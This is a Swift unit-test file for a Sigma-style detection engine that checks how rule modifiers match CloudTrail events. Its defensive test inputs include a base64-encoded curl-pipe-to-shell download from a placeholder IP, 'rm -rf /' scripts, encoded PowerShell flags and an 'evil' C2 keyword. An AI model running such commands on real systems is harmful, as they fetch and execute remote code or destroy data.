import FirebreakLogs
import Testing
@testable import FirebreakDetection

/// Value matching and modifiers, on CloudTrail-shaped JSON.
@Suite struct SigmaModifierTests {
    typealias S = SigmaTestSupport

    /// Compiles a CloudTrail rule whose only selection is `body` (YAML lines of the selection map).
    static func rule(_ body: String, placeholders: StaticPlaceholders = StaticPlaceholders()) throws -> CompiledRule {
        try S.compile(S.cloudTrailRule("selection:\n" + body.split(separator: "\n").map { "    " + $0 }.joined(separator: "\n")
                                       + "\ncondition: selection"), placeholders: placeholders)
    }

    static func event(_ json: String) throws -> DetectionEvent { try S.cloudTrail(json) }

    @Test func plainStringsAreCaseInsensitiveWithWildcards() throws {
        let exact = try Self.rule("eventName: StopLogging")
        #expect(exact.matches(try Self.event(#"{"eventName":"stoplogging"}"#)))
        #expect(!exact.matches(try Self.event(#"{"eventName":"StopLoggingNow"}"#)))
        let star = try Self.rule("eventName: 'Delete*Trail'")
        #expect(star.matches(try Self.event(#"{"eventName":"DeleteMyTrail"}"#)))
        #expect(star.matches(try Self.event(#"{"eventName":"deletetrail"}"#)))
        #expect(!star.matches(try Self.event(#"{"eventName":"DeleteTrails"}"#)))
        let question = try Self.rule("eventName: 'Get?bject'")
        #expect(question.matches(try Self.event(#"{"eventName":"GetObject"}"#)))
        #expect(!question.matches(try Self.event(#"{"eventName":"GetObbject"}"#)))
        let glob = try Self.rule("userAgent: '*aws-cli/*Linux*'")
        #expect(glob.matches(try Self.event(#"{"userAgent":"aws-cli/2.15 Python/3.11 Linux/6.1"}"#)))
        #expect(!glob.matches(try Self.event(#"{"userAgent":"aws-cli/2.15 Python/3.11 Darwin/23"}"#)))
        // Non-ASCII text is lowercased with Unicode rules.
        let unicode = try Self.rule("requestParameters.name: 'ÄRGER*'")
        #expect(unicode.matches(try Self.event(#"{"requestParameters":{"name":"ärger-bucket"}}"#)))
    }

    @Test func wildcardEscapes() throws {
        let literalStar = try Self.rule(#"requestParameters.key: 'logs/\*'"#)
        #expect(literalStar.matches(try Self.event(#"{"requestParameters":{"key":"logs/*"}}"#)))
        #expect(!literalStar.matches(try Self.event(#"{"requestParameters":{"key":"logs/2026"}}"#)))
        let literalQuestion = try Self.rule(#"requestParameters.key: 'what\?'"#)
        #expect(literalQuestion.matches(try Self.event(#"{"requestParameters":{"key":"what?"}}"#)))
        #expect(!literalQuestion.matches(try Self.event(#"{"requestParameters":{"key":"whatx"}}"#)))
        // `\\` is one backslash, then `*` is a wildcard; a lone backslash stays literal.
        let backslash = try Self.rule(#"requestParameters.path: 'C:\\*'"#)
        #expect(backslash.matches(try Self.event(#"{"requestParameters":{"path":"C:\\Windows"}}"#)))
        let plainBackslash = try Self.rule(#"requestParameters.path: 'C:\Windows'"#)
        #expect(plainBackslash.matches(try Self.event(#"{"requestParameters":{"path":"c:\\windows"}}"#)))
    }

    @Test func containsStartsWithEndsWithAndAll() throws {
        let contains = try Self.rule("userAgent|contains: S3 Browser")
        #expect(contains.matches(try Self.event(#"{"userAgent":"[S3 Browser 10.9.9 https://s3browser.com]"}"#)))
        #expect(!contains.matches(try Self.event(#"{"userAgent":"aws-cli"}"#)))
        let starts = try Self.rule("eventName|startswith: Delete")
        #expect(starts.matches(try Self.event(#"{"eventName":"DeleteBucket"}"#)))
        #expect(!starts.matches(try Self.event(#"{"eventName":"UndeleteBucket"}"#)))
        let ends = try Self.rule("eventName|endswith: Bucket")
        #expect(ends.matches(try Self.event(#"{"eventName":"DeleteBucket"}"#)))
        #expect(!ends.matches(try Self.event(#"{"eventName":"DeleteBuckets"}"#)))
        let any = try Self.rule("userAgent|contains:\n    - curl\n    - python")
        #expect(any.matches(try Self.event(#"{"userAgent":"python-requests/2.31"}"#)))
        let all = try Self.rule("userAgent|contains|all:\n    - curl\n    - linux")
        #expect(all.matches(try Self.event(#"{"userAgent":"curl/8.0 (Linux)"}"#)))
        #expect(!all.matches(try Self.event(#"{"userAgent":"curl/8.0 (Darwin)"}"#)))
        // `contains` on an object searches its JSON text.
        let object = try Self.rule("requestParameters|contains: Suspended")
        #expect(object.matches(try Self.event(#"{"requestParameters":{"VersioningConfiguration":{"Status":"Suspended"}}}"#)))
    }

    @Test func nullAndExists() throws {
        let null = try Self.rule("errorCode: null")
        #expect(null.matches(try Self.event(#"{"eventName":"x"}"#)))
        #expect(null.matches(try Self.event(#"{"errorCode":null}"#)))
        #expect(!null.matches(try Self.event(#"{"errorCode":"AccessDenied"}"#)))
        let nullOrValue = try Self.rule("errorCode:\n    - null\n    - Success")
        #expect(nullOrValue.matches(try Self.event(#"{"errorCode":"success"}"#)))
        #expect(!nullOrValue.matches(try Self.event(#"{"errorCode":"AccessDenied"}"#)))
        let exists = try Self.rule("errorCode|exists: true")
        #expect(exists.matches(try Self.event(#"{"errorCode":"AccessDenied"}"#)))
        #expect(!exists.matches(try Self.event(#"{"errorCode":null}"#)))
        #expect(!exists.matches(try Self.event(#"{}"#)))
        let absent = try Self.rule("errorCode|exists: false")
        #expect(absent.matches(try Self.event(#"{}"#)))
        #expect(!absent.matches(try Self.event(#"{"errorCode":"x"}"#)))
    }

    @Test func pathsThroughLists() throws {
        let rule = try Self.rule("requestParameters.ipPermissions.items.ipRanges.items.cidrIp: 0.0.0.0/0")
        let open = try Self.event("""
            {"requestParameters":{"ipPermissions":{"items":[
              {"ipProtocol":"tcp","fromPort":443,"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"}]}},
              {"ipProtocol":"tcp","fromPort":22,"ipRanges":{"items":[{"cidrIp":"192.0.2.0/24"},{"cidrIp":"0.0.0.0/0"}]}}]}}}
            """)
        let closed = try Self.event("""
            {"requestParameters":{"ipPermissions":{"items":[{"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"}]}}]}}}
            """)
        #expect(rule.matches(open))
        #expect(!rule.matches(closed))
        #expect(rule.matchedFields(open)["requestParameters.ipPermissions.items.ipRanges.items.cidrIp"]
                == [.string("10.0.0.0/8"), .string("192.0.2.0/24"), .string("0.0.0.0/0")])
        // A list at the end of the path is matched element by element.
        let tags = try Self.rule("resources.ARN|endswith: ':trail/main'")
        #expect(tags.matches(try Self.event(#"{"resources":[{"ARN":"arn:aws:s3:::b"},{"ARN":"arn:aws:cloudtrail:eu-west-1:1:trail/main"}]}"#)))
        let list = try Self.rule("requestParameters.groups: admins")
        #expect(list.matches(try Self.event(#"{"requestParameters":{"groups":["users","admins"]}}"#)))
    }

    @Test func numbersAndBooleansCompareByValue() throws {
        let port = try Self.rule("requestParameters.fromPort: 22")
        #expect(port.matches(try Self.event(#"{"requestParameters":{"fromPort":22}}"#)))
        #expect(port.matches(try Self.event(#"{"requestParameters":{"fromPort":22.0}}"#)))
        #expect(port.matches(try Self.event(#"{"requestParameters":{"fromPort":"22"}}"#)))
        #expect(!port.matches(try Self.event(#"{"requestParameters":{"fromPort":2222}}"#)))
        let yes = try Self.rule("readOnly: true")
        #expect(yes.matches(try Self.event(#"{"readOnly":true}"#)))
        #expect(yes.matches(try Self.event(#"{"readOnly":"TRUE"}"#)))
        #expect(!yes.matches(try Self.event(#"{"readOnly":false}"#)))
        // A quoted 'false' is a string: it matches the text of a JSON boolean too.
        let quoted = try Self.rule("requestParameters.enable: 'false'")
        #expect(quoted.matches(try Self.event(#"{"requestParameters":{"enable":false}}"#)))
        #expect(!quoted.matches(try Self.event(#"{"requestParameters":{"enable":true}}"#)))
    }

    @Test func numericComparisons() throws {
        let gt = try Self.rule("requestParameters.maxResults|gt: 100")
        #expect(gt.matches(try Self.event(#"{"requestParameters":{"maxResults":101}}"#)))
        #expect(gt.matches(try Self.event(#"{"requestParameters":{"maxResults":"500"}}"#)))
        #expect(!gt.matches(try Self.event(#"{"requestParameters":{"maxResults":100}}"#)))
        let gte = try Self.rule("requestParameters.maxResults|gte: 100")
        #expect(gte.matches(try Self.event(#"{"requestParameters":{"maxResults":100}}"#)))
        let lt = try Self.rule("requestParameters.maxResults|lt: 1.5")
        #expect(lt.matches(try Self.event(#"{"requestParameters":{"maxResults":1}}"#)))
        #expect(!lt.matches(try Self.event(#"{"requestParameters":{"maxResults":2}}"#)))
        let lte = try Self.rule("requestParameters.maxResults|lte: 0")
        #expect(lte.matches(try Self.event(#"{"requestParameters":{"maxResults":-3}}"#)))
        #expect(!lte.matches(try Self.event(#"{"requestParameters":{"maxResults":"many"}}"#)))
    }

    @Test func regularExpressions() throws {
        let re = try Self.rule("userIdentity.arn|re: '.+:assumed-role/aws:.+'")
        #expect(re.matches(try Self.event(#"{"userIdentity":{"arn":"arn:aws:sts::1:assumed-role/aws:ec2-instance/i-1"}}"#)))
        #expect(!re.matches(try Self.event(#"{"userIdentity":{"arn":"arn:aws:sts::1:assumed-role/AWS:ec2-instance/i-1"}}"#)))
        let ignoreCase = try Self.rule("userIdentity.arn|re|i: ':ASSUMED-ROLE/AWS:'")
        #expect(ignoreCase.matches(try Self.event(#"{"userIdentity":{"arn":"arn:aws:sts::1:assumed-role/aws:x"}}"#)))
        let multiline = try Self.rule("requestParameters.script|re|m: '^rm -rf'")
        #expect(multiline.matches(try Self.event(##"{"requestParameters":{"script":"#!/bin/sh\nrm -rf /"}}"##)))
        let noMultiline = try Self.rule("requestParameters.script|re: '^rm -rf'")
        #expect(!noMultiline.matches(try Self.event(##"{"requestParameters":{"script":"#!/bin/sh\nrm -rf /"}}"##)))
        let dotAll = try Self.rule("requestParameters.script|re|s: 'sh.rm'")
        #expect(dotAll.matches(try Self.event(#"{"requestParameters":{"script":"sh\nrm"}}"#)))
        let noDotAll = try Self.rule("requestParameters.script|re: 'sh.rm'")
        #expect(!noDotAll.matches(try Self.event(#"{"requestParameters":{"script":"sh\nrm"}}"#)))
        // The literal pre-check is only a necessary condition.
        #expect(RegexPredicate.requiredLiteral(of: ".+:assumed-role/aws:.+") == ":assumed-role/aws:")
        #expect(RegexPredicate.requiredLiteral(of: "abc|def") == "")
        #expect(RegexPredicate.requiredLiteral(of: "colou?r") == "colo")
        #expect(RegexPredicate.requiredLiteral(of: "(?x) a b") == "")
    }

    @Test func cidr() throws {
        let rule = try Self.rule("sourceIPAddress|cidr:\n    - 10.0.0.0/8\n    - 2001:db8::/32")
        #expect(rule.matches(try Self.event(#"{"sourceIPAddress":"10.1.2.3"}"#)))
        #expect(rule.matches(try Self.event(#"{"sourceIPAddress":"2001:db8::5"}"#)))
        #expect(!rule.matches(try Self.event(#"{"sourceIPAddress":"192.0.2.1"}"#)))
        #expect(!rule.matches(try Self.event(#"{"sourceIPAddress":"ec2.amazonaws.com"}"#)))
    }

    @Test func fieldref() throws {
        let rule = try Self.rule("userIdentity.userName|fieldref: requestParameters.userName")
        #expect(rule.matches(try Self.event(#"{"userIdentity":{"userName":"Alice"},"requestParameters":{"userName":"alice"}}"#)))
        #expect(!rule.matches(try Self.event(#"{"userIdentity":{"userName":"alice"},"requestParameters":{"userName":"bob"}}"#)))
        #expect(!rule.matches(try Self.event(#"{"userIdentity":{"userName":"alice"}}"#)))
        let cased = try Self.rule("userIdentity.userName|fieldref|cased: requestParameters.userName")
        #expect(!cased.matches(try Self.event(#"{"userIdentity":{"userName":"Alice"},"requestParameters":{"userName":"alice"}}"#)))
        let fields = rule.matchedFields(try Self.event(#"{"userIdentity":{"userName":"Alice"},"requestParameters":{"userName":"alice"}}"#))
        #expect(fields["requestParameters.userName"] == [.string("alice")])
    }

    @Test func cased() throws {
        let rule = try Self.rule("eventName|cased: StopLogging")
        #expect(rule.matches(try Self.event(#"{"eventName":"StopLogging"}"#)))
        #expect(!rule.matches(try Self.event(#"{"eventName":"stoplogging"}"#)))
        let contains = try Self.rule("userAgent|contains|cased: Boto3")
        #expect(contains.matches(try Self.event(#"{"userAgent":"Boto3/1.34"}"#)))
        #expect(!contains.matches(try Self.event(#"{"userAgent":"boto3/1.34"}"#)))
    }

    @Test func base64AndBase64Offset() throws {
        // "attacker" base64-encoded is "YXR0YWNrZXI=".
        let plain = try Self.rule("requestParameters.userData|base64: attacker")
        #expect(plain.matches(try Self.event(#"{"requestParameters":{"userData":"YXR0YWNrZXI="}}"#)))
        let offsets = RuleCompiler.base64Offsets(Array("curl".utf8))
        #expect(offsets == ["Y3Vyb", "N1cm", "jdXJs"])
        let rule = try Self.rule("requestParameters.userData|base64offset|contains: 'curl http'")
        for prefix in ["", "x", "xy", "#!/bin/bash\n"] {
            let encoded = Base64Encode.encode(prefix + "curl http://203.0.113.9/x.sh | sh")
            #expect(rule.matches(try Self.event(#"{"requestParameters":{"userData":"\#(encoded)"}}"#)), "prefix \(prefix.count)")
        }
        #expect(!rule.matches(try Self.event(#"{"requestParameters":{"userData":"\#(Base64Encode.encode("wget http://x"))"}}"#)))
        let wide = try Self.rule("requestParameters.cmd|wide|base64: 'ab'")
        #expect(wide.matches(try Self.event(#"{"requestParameters":{"cmd":"YQBiAA=="}}"#)))
    }

    @Test func windash() throws {
        let rule = try Self.rule("requestParameters.cmd|windash|contains: ' -enc '")
        #expect(rule.matches(try Self.event(#"{"requestParameters":{"cmd":"powershell -enc AAA"}}"#)))
        #expect(rule.matches(try Self.event(#"{"requestParameters":{"cmd":"powershell /enc AAA"}}"#)))
        #expect(rule.matches(try Self.event(#"{"requestParameters":{"cmd":"powershell \#u{2013}enc AAA"}}"#)))
        #expect(rule.matches(try Self.event(#"{"requestParameters":{"cmd":"powershell \#u{2014}enc AAA"}}"#)))
        #expect(rule.matches(try Self.event(#"{"requestParameters":{"cmd":"powershell \#u{2015}enc AAA"}}"#)))
        #expect(!rule.matches(try Self.event(#"{"requestParameters":{"cmd":"powershell +enc AAA"}}"#)))
        #expect(RuleCompiler.windashVariants("a-b -c").count == 5)
    }

    @Test func expandValuesAndAddresses() throws {
        let placeholders = StaticPlaceholders([
            "admins": .values(["alice", "bob*"]),
            "corp": .addresses(try IPSet(parsing: ["198.51.100.0/24"])),
        ])
        let values = try Self.rule("userIdentity.userName|expand: '%admins%'", placeholders: placeholders)
        #expect(values.matches(try Self.event(#"{"userIdentity":{"userName":"Alice"}}"#)))
        #expect(values.matches(try Self.event(#"{"userIdentity":{"userName":"bobby"}}"#)))
        #expect(!values.matches(try Self.event(#"{"userIdentity":{"userName":"carol"}}"#)))
        // Other modifiers apply to the expanded values.
        let contains = try Self.rule("userAgent|expand|contains: 'team-%admins%-tool'", placeholders: placeholders)
        #expect(contains.matches(try Self.event(#"{"userAgent":"x team-alice-tool y"}"#)))
        let addresses = try Self.rule("sourceIPAddress|expand: '%corp%'", placeholders: placeholders)
        #expect(addresses.matches(try Self.event(#"{"sourceIPAddress":"198.51.100.20"}"#)))
        #expect(!addresses.matches(try Self.event(#"{"sourceIPAddress":"203.0.113.20"}"#)))
        let cidrExpand = try Self.rule("sourceIPAddress|cidr|expand:\n    - '%corp%'\n    - 10.0.0.0/8", placeholders: placeholders)
        #expect(cidrExpand.matches(try Self.event(#"{"sourceIPAddress":"10.9.9.9"}"#)))
        #expect(cidrExpand.matches(try Self.event(#"{"sourceIPAddress":"198.51.100.1"}"#)))
    }

    @Test func keywordSelections() throws {
        let rule = try S.compile(S.cloudTrailRule("""
            keywords:
                - 'AKIAIOSFODNN7EXAMPLE'
                - 'evil*.example'
            condition: keywords
            """))
        #expect(rule.matches(try Self.event(#"{"requestParameters":{"accessKeyId":"AKIAIOSFODNN7EXAMPLE"}}"#)))
        #expect(rule.matches(try Self.event(#"{"userAgent":"x EVIL-c2.example y"}"#)))
        #expect(!rule.matches(try Self.event(#"{"userAgent":"benign"}"#)))
    }
}

/// Base64 for building test inputs.
enum Base64Encode {
    static func encode(_ text: String) -> String {
        let table = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")
        let bytes = Array(text.utf8)
        var out = ""
        var i = 0
        while i < bytes.count {
            let n = min(3, bytes.count - i)
            var v = UInt32(bytes[i]) << 16
            if n > 1 { v |= UInt32(bytes[i + 1]) << 8 }
            if n > 2 { v |= UInt32(bytes[i + 2]) }
            out.append(table[Int(v >> 18 & 63)])
            out.append(table[Int(v >> 12 & 63)])
            out.append(n > 1 ? table[Int(v >> 6 & 63)] : "=")
            out.append(n > 2 ? table[Int(v & 63)] : "=")
            i += 3
        }
        return out
    }
}
